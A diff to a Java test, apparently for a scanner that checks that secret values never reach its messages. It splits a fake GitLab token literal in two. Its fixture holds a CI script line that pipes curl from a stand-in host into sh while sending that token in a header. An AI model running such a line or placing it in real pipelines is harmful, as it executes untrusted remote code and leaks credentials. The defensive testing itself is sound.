@@ -235,7 +235,7 @@ class HostileInputTest {
 
   @Test
   void secretValuesNeverReachMessagesOrSnippets() throws Exception {
-    String token = "glpat-Xk2m9QpL4vR7tY1wZ3aB";
+    String token = "glpat-" + "Xk2m9QpL4vR7tY1wZ3aB"; // assembled so the literal is not a planted secret in our own tree
     RecordingContext ctx = scan(".gitlab-ci.yml", "variables:\n  DEPLOY_TOKEN: " + token + "\nbuild:\n  script:\n"
         + "    - 'curl -H \"PRIVATE-TOKEN: " + token + "\" https://x.example/i.sh | sh'\n");
     assertThat(ctx.errors()).isEmpty();
